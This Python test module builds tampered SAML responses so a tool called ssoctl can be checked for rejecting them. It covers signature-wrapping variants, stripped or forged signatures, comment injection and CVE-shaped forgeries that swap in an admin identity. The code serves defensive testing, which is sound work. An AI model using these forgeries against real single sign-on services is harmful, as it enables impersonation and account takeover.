"""Tampered SAML responses for tests and for users who want to see ssoctl refuse them.

Every builder starts from a *legitimately signed* response (``samlgen.response``) and
changes it the way a published attack does (security.md section C; XSW variants after
SAMLRaider's ``XSWHelpers`` and Somorovsky et al., USENIX Security 2012). "Evil" means
the NameID (and e-mail attribute) changed to :data:`EVIL`. Builders take and return
bytes; :data:`ATTACKS` lists them with the signing mode each one needs.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
from functools import lru_cache
from typing import Callable

from lxml import etree

from ssoctl import xmlsafe
from ssoctl.devtools import pki, samlgen

EVIL = "admin@example.com"
DS = "http://www.w3.org/2000/09/xmldsig#"
_DS = "{" + DS + "}"
NS = xmlsafe.NS
ASSERTION = xmlsafe.qname("saml", "Assertion")
SIGNATURE = xmlsafe.qname("ds", "Signature")


def _parse(xml: bytes) -> etree._Element:
    return xmlsafe.parse(xml, what="test message")


def _out(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def make_evil(element: etree._Element, *, new_id: str | None = None) -> etree._Element:
    """Change NameID and e-mail attribute values inside ``element`` to :data:`EVIL`."""
    for nid in element.iter(xmlsafe.qname("saml", "NameID")):
        nid.text = EVIL
    for value in element.iterfind(".//saml:Attribute[@Name='email']/saml:AttributeValue", NS):
        value.text = EVIL
    if new_id:
        element.set("ID", new_id)
    return element


def _strip_sig(element: etree._Element) -> etree._Element:
    sig = element.find(SIGNATURE)
    if sig is not None:
        element.remove(sig)
    return element


def _assertion(root: etree._Element) -> etree._Element:
    return root.find(ASSERTION)


def _evil_copy(element: etree._Element, new_id: str = "idEVIL0000000000000000001") -> etree._Element:
    return make_evil(_strip_sig(copy.deepcopy(element)), new_id=new_id)


# ------------------------------------------------------------------- XSW (C9-C19)


def xsw1(xml: bytes) -> bytes:
    """C9: evil Response (new ID, keeps Signature); unsigned copy of the original inside ds:Signature."""
    orig = _parse(xml)
    evil = make_evil(copy.deepcopy(orig), new_id="idEVILRESPONSE00000000001")
    evil.find(SIGNATURE).append(_strip_sig(copy.deepcopy(orig)))
    return _out(evil)


def xsw2(xml: bytes) -> bytes:
    """C10: like XSW1, but the copy is a sibling before ds:Signature."""
    orig = _parse(xml)
    evil = make_evil(copy.deepcopy(orig), new_id="idEVILRESPONSE00000000001")
    evil.find(SIGNATURE).addprevious(_strip_sig(copy.deepcopy(orig)))
    return _out(evil)


def xsw3(xml: bytes) -> bytes:
    """C11: an evil Assertion (new ID, unsigned) before the signed one."""
    root = _parse(xml)
    signed = _assertion(root)
    signed.addprevious(_evil_copy(signed))
    return _out(root)


def xsw4(xml: bytes) -> bytes:
    """C12: an evil Assertion appended; the signed Assertion moved inside it."""
    root = _parse(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed)
    root.remove(signed)
    evil.append(signed)
    root.append(evil)
    return _out(root)


def xsw5(xml: bytes) -> bytes:
    """C13: the signed Assertion made evil (keeps Signature, new ID); unsigned original appended."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    root.append(original)
    return _out(root)


def xsw6(xml: bytes) -> bytes:
    """C14: like XSW5, the unsigned original placed directly inside ds:Signature."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    signed.find(SIGNATURE).append(original)
    return _out(root)


def xsw6_object(xml: bytes) -> bytes:
    """C14 (variant signxml accepts): the original wrapped in ds:Object inside ds:Signature."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed, new_id="idEVIL0000000000000000001")
    obj = etree.SubElement(signed.find(SIGNATURE), _DS + "Object")
    obj.append(original)
    return _out(root)


def xsw7(xml: bytes) -> bytes:
    """C15: an Extensions element before the Assertion holds an evil copy with the same ID."""
    root = _parse(xml)
    signed = _assertion(root)
    ext = etree.Element(xmlsafe.qname("samlp", "Extensions"))
    ext.append(make_evil(_strip_sig(copy.deepcopy(signed))))
    signed.addprevious(ext)
    return _out(root)


def xsw8(xml: bytes) -> bytes:
    """C16: the signed Assertion made evil keeping its ID; the original in ds:Signature/ds:Object."""
    root = _parse(xml)
    signed = _assertion(root)
    original = _strip_sig(copy.deepcopy(signed))
    make_evil(signed)
    obj = etree.SubElement(signed.find(SIGNATURE), _DS + "Object")
    obj.append(original)
    return _out(root)


def hidden_in_extensions(xml: bytes) -> bytes:
    """C17: the signed Assertion hidden in samlp:Extensions; a forged top-level Assertion."""
    root = _parse(xml)
    signed = _assertion(root)
    forged = _evil_copy(signed)
    root.remove(signed)
    ext = etree.Element(xmlsafe.qname("samlp", "Extensions"))
    ext.append(signed)
    root.find(xmlsafe.qname("saml", "Issuer")).addnext(ext)
    root.append(forged)
    return _out(root)


def multiple_assertions(xml: bytes) -> bytes:
    """C18 (CVE-2022-41912): an unsigned evil copy appended after the signed Assertion."""
    root = _parse(xml)
    signed = _assertion(root)
    signed.addnext(_evil_copy(signed))
    return _out(root)


def foreign_root(xml: bytes) -> bytes:
    """C19: ``<Wrapper>{evil Assertion}{signed Response}</Wrapper>``."""
    root = _parse(xml)
    wrapper = etree.Element("Wrapper")
    wrapper.append(_evil_copy(_assertion(root)))
    wrapper.append(root)
    return _out(wrapper)


# ------------------------------------------------------------ signature tampering (C20-C29)


def strip_signature(xml: bytes) -> bytes:
    """C20: every ds:Signature removed, NameID changed."""
    root = _parse(xml)
    for sig in list(root.iter(SIGNATURE)):
        sig.getparent().remove(sig)
    make_evil(root)
    return _out(root)


def empty_signature_value(xml: bytes) -> bytes:
    """C20 (FusionAuth CVE-2020-12676 shape): SignatureValue emptied, NameID changed."""
    root = _parse(xml)
    for value in root.iter(_DS + "SignatureValue"):
        value.text = ""
    make_evil(root)
    return _out(root)


def fake_certificate(xml: bytes, *, now: dt.datetime | None = None) -> bytes:
    """C21: NameID changed and re-signed with an attacker key, attacker certificate in KeyInfo."""
    root = _parse(xml)
    assertion = _assertion(root)
    _strip_sig(assertion)
    make_evil(assertion)
    key, cert = attacker()
    return samlgen.sign_element(_out(root), key=key, cert=cert, target="assertion")


def keyvalue_mismatch(xml: bytes) -> bytes:
    """C22: an attacker RSAKeyValue added next to the genuine X509Data; NameID changed."""
    root = _parse(xml)
    assertion = _assertion(root)
    make_evil(assertion)
    numbers = attacker()[0].public_key().public_numbers()
    key_info = assertion.find(f"{SIGNATURE}/{_DS}KeyInfo")
    key_value = etree.SubElement(key_info, _DS + "KeyValue")
    rsa_value = etree.SubElement(key_value, _DS + "RSAKeyValue")
    etree.SubElement(rsa_value, _DS + "Modulus").text = _b64int(numbers.n)
    etree.SubElement(rsa_value, _DS + "Exponent").text = _b64int(numbers.e)
    return _out(root)


def comment_in_nameid(*, now: dt.datetime) -> bytes:
    """C23: ``admin@example.com.evil.com`` legitimately signed, then ``<!---->`` after ``.com``."""
    xml = samlgen.response(now=now, name_id="admin@example.com.evil.com")
    root = _parse(xml)
    nid = root.find("saml:Assertion/saml:Subject/saml:NameID", NS)
    nid.text = "admin@example.com"
    nid.append(etree.Comment(""))
    nid[-1].tail = ".evil.com"
    return _out(root)


def comment_in_digest(xml: bytes) -> bytes:
    """C24 (xml-crypto CVE-2025-29775): a comment inside DigestValue; NameID changed."""
    root = _parse(xml)
    make_evil(root)
    value = root.find(f".//{_DS}DigestValue")
    value.append(etree.Comment("x"))
    value[-1].tail = ""
    return _out(root)


def two_signed_infos(xml: bytes) -> bytes:
    """C24 (CVE-2025-29774): a second SignedInfo next to the first; NameID changed."""
    root = _parse(xml)
    make_evil(root)
    info = root.find(f".//{_DS}SignedInfo")
    info.addnext(copy.deepcopy(info))
    return _out(root)


def wrapped_signed_info(xml: bytes) -> bytes:
    """C24: the genuine SignedInfo wrapped inside another SignedInfo; NameID changed."""
    root = _parse(xml)
    make_evil(root)
    info = root.find(f".//{_DS}SignedInfo")
    outer = copy.deepcopy(info)
    info.addprevious(outer)
    outer.append(info)
    return _out(root)


def stray_digest(xml: bytes) -> bytes:
    """C25 (CVE-2024-45409 shape): Assertion changed, matching DigestValue put in StatusDetail."""
    root = _parse(xml)
    assertion = _assertion(root)
    make_evil(assertion)
    # Digest of the evil Assertion exactly as the signer computes it.
    probe = copy.deepcopy(assertion)
    _strip_sig(probe)
    import hashlib

    c14n = etree.tostring(probe, method="c14n", exclusive=True, inclusive_ns_prefixes=["xs"])
    status = root.find("samlp:Status", NS)
    detail = etree.SubElement(status, xmlsafe.qname("samlp", "StatusDetail"))
    etree.SubElement(detail, _DS + "DigestValue").text = \
        base64.b64encode(hashlib.sha256(c14n).digest()).decode()
    return _out(root)


def duplicate_id(xml: bytes, attribute: str = "ID") -> bytes:
    """C26: a second element carrying the signed Assertion's ID in ``attribute``
    (``ID``, ``{urn:x}ID`` or the decoy ``Id``), with evil content."""
    root = _parse(xml)
    signed = _assertion(root)
    decoy = etree.Element(xmlsafe.qname("samlp", "StatusDetail"))
    decoy.set(attribute, signed.get("ID"))
    decoy.text = EVIL
    root.find("samlp:Status", NS).append(decoy)
    return _out(root)


def resign(xml: bytes, mutate: Callable[[etree._Element], None], *, key=None,
           hmac_key: bytes | None = None, signature_method: str | None = None) -> bytes:
    """Apply ``mutate`` to the Assertion's SignedInfo and compute a fresh SignatureValue.

    The genuine IdP key is used by default: these fixtures model an IdP (or a
    misconfigured signer) producing a signature ssoctl must still refuse.
    """
    import hmac
    import hashlib

    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    root = _parse(xml)
    sig = _assertion(root).find(SIGNATURE)
    info = sig.find(_DS + "SignedInfo")
    mutate(info)
    if signature_method:
        info.find(_DS + "SignatureMethod").set("Algorithm", signature_method)
    c14n = etree.tostring(info, method="c14n", exclusive=True)
    if hmac_key is not None:
        value = hmac.new(hmac_key, c14n, hashlib.sha256).digest()
    else:
        value = (key or samlgen.default_idp()[0]).sign(c14n, padding.PKCS1v15(), hashes.SHA256())
    sig.find(_DS + "SignatureValue").text = base64.b64encode(value).decode()
    return _out(root)


def _add_transform(algorithm: str, child: etree._Element | None = None):
    def mutate(info: etree._Element) -> None:
        transforms = info.find(f"{_DS}Reference/{_DS}Transforms")
        transform = etree.SubElement(transforms, _DS + "Transform", Algorithm=algorithm)
        if child is not None:
            transform.append(child)
    return mutate


def xslt_transform(xml: bytes) -> bytes:
    """C27: an XSLT transform whose stylesheet calls ``document('http://127.0.0.1:9/')``."""
    xsl = "http://www.w3.org/1999/XSL/Transform"
    sheet = etree.Element(f"{{{xsl}}}stylesheet", nsmap={"xsl": xsl}, version="1.0")
    tpl = etree.SubElement(sheet, f"{{{xsl}}}template", match="/")
    etree.SubElement(tpl, f"{{{xsl}}}copy-of", select="document('http://127.0.0.1:9/')")
    return resign(xml, _add_transform("http://www.w3.org/TR/1999/REC-xslt-19991116", sheet))


def xpath_transform(xml: bytes) -> bytes:
    """C27: an XPath filter transform."""
    xpath = etree.Element(_DS + "XPath")
    xpath.text = "not(ancestor-or-self::saml:NameID)"
    return resign(xml, _add_transform("http://www.w3.org/TR/1999/REC-xpath-19991116", xpath))


def with_comments_transform(xml: bytes) -> bytes:
    """C27: the reference canonicalized ``#WithComments``."""
    def mutate(info: etree._Element) -> None:
        for transform in info.iter(_DS + "Transform"):
            if transform.get("Algorithm", "").startswith("http://www.w3.org/2001/10/xml-exc-c14n#"):
                transform.set("Algorithm", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments")
    return resign(xml, mutate)


def hmac_with_certificate(xml: bytes) -> bytes:
    """C28 (GHSA-6vx8-pcwv-xhf4 shape): NameID changed, HMAC-SHA256 keyed with the public
    certificate's PEM, digest recomputed."""
    evil = _recompute_digest(_evil_bytes(xml))
    pem = pki.cert_pem(samlgen.default_idp()[1]).encode()
    return resign(evil, lambda info: None, hmac_key=pem,
                  signature_method="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256")


def md5_signature(xml: bytes) -> bytes:
    """C28: SignatureMethod rsa-md5 and an md5 DigestMethod."""
    def mutate(info: etree._Element) -> None:
        info.find(f".//{_DS}DigestMethod").set("Algorithm",
                                               "http://www.w3.org/2001/04/xmldsig-more#md5")
    return resign(xml, mutate, signature_method="http://www.w3.org/2001/04/xmldsig-more#rsa-md5")


def unknown_algorithm(xml: bytes) -> bytes:
    """C28: a SignatureMethod URI nobody knows."""
    return resign(xml, lambda info: None, signature_method="urn:example:made-up-signature")


def relative_namespace(xml: bytes) -> bytes:
    """C29 ("void canonicalization"): ``xmlns:rel="relative/uri"`` on the Assertion; NameID changed."""
    text = _evil_bytes(xml)
    return text.replace(b"<saml2:Assertion ", b'<saml2:Assertion xmlns:rel="relative/uri" ', 1)


def prefix_rebinding(xml: bytes) -> bytes:
    """C29 (guess): the saml2 prefix rebound to another namespace around the NameID."""
    text = _evil_bytes(xml)
    return text.replace(b"<saml2:Subject>", b'<saml2:Subject xmlns:saml2="urn:example:evil">', 1)


# ------------------------------------------------------------------- helpers


def _evil_bytes(xml: bytes) -> bytes:
    root = _parse(xml)
    make_evil(_assertion(root))
    return _out(root)


def _recompute_digest(xml: bytes) -> bytes:
    import hashlib

    root = _parse(xml)
    assertion = _assertion(root)
    probe = _strip_sig(copy.deepcopy(assertion))
    c14n = etree.tostring(probe, method="c14n", exclusive=True, inclusive_ns_prefixes=["xs"])
    assertion.find(f".//{_DS}DigestValue").text = base64.b64encode(
        hashlib.sha256(c14n).digest()).decode()
    return _out(root)


def _b64int(value: int) -> str:
    return base64.b64encode(value.to_bytes((value.bit_length() + 7) // 8, "big")).decode()


@lru_cache(maxsize=1)
def attacker():
    """The attacker's (key, self-signed Okta-looking certificate)."""
    return pki.okta_certificate(pki.cached_rsa_key("attacker"))


#: name -> (signing mode of the legitimate response, builder, security.md item)
ATTACKS: dict[str, tuple[str, Callable[[bytes], bytes], str]] = {
    "xsw1": ("response", xsw1, "C9"),
    "xsw2": ("response", xsw2, "C10"),
    "xsw3": ("assertion", xsw3, "C11"),
    "xsw4": ("assertion", xsw4, "C12"),
    "xsw5": ("assertion", xsw5, "C13"),
    "xsw6": ("assertion", xsw6, "C14"),
    "xsw6-object": ("assertion", xsw6_object, "C14"),
    "xsw7": ("assertion", xsw7, "C15"),
    "xsw8": ("assertion", xsw8, "C16"),
    "hidden-in-extensions": ("assertion", hidden_in_extensions, "C17"),
    "multiple-assertions": ("assertion", multiple_assertions, "C18"),
    "foreign-root": ("response", foreign_root, "C19"),
    "strip-signature": ("assertion", strip_signature, "C20"),
    "strip-both-signatures": ("both", strip_signature, "C20"),
    "empty-signature-value": ("assertion", empty_signature_value, "C20"),
    "fake-certificate": ("assertion", fake_certificate, "C21"),
    "keyvalue-mismatch": ("assertion", keyvalue_mismatch, "C22"),
    "comment-in-digest": ("assertion", comment_in_digest, "C24"),
    "two-signed-infos": ("assertion", two_signed_infos, "C24"),
    "wrapped-signed-info": ("assertion", wrapped_signed_info, "C24"),
    "stray-digest": ("assertion", stray_digest, "C25"),
    "duplicate-id": ("assertion", duplicate_id, "C26"),
    "duplicate-namespaced-id": ("assertion", lambda x: duplicate_id(x, "{urn:x}ID"), "C26"),
    "decoy-Id": ("assertion", lambda x: duplicate_id(x, "Id"), "C26"),
    "xslt-transform": ("assertion", xslt_transform, "C27"),
    "xpath-transform": ("assertion", xpath_transform, "C27"),
    "with-comments-transform": ("assertion", with_comments_transform, "C27"),
    "hmac-with-certificate": ("assertion", hmac_with_certificate, "C28"),
    "md5": ("assertion", md5_signature, "C28"),
    "unknown-algorithm": ("assertion", unknown_algorithm, "C28"),
    "relative-namespace": ("assertion", relative_namespace, "C29"),
    "prefix-rebinding": ("assertion", prefix_rebinding, "C29"),
}


def build(name: str, *, now: dt.datetime) -> bytes:
    """The attack ``name`` from :data:`ATTACKS`, built on a fresh legitimate response."""
    sign, builder, _item = ATTACKS[name]
    return builder(samlgen.response(now=now, sign=sign))
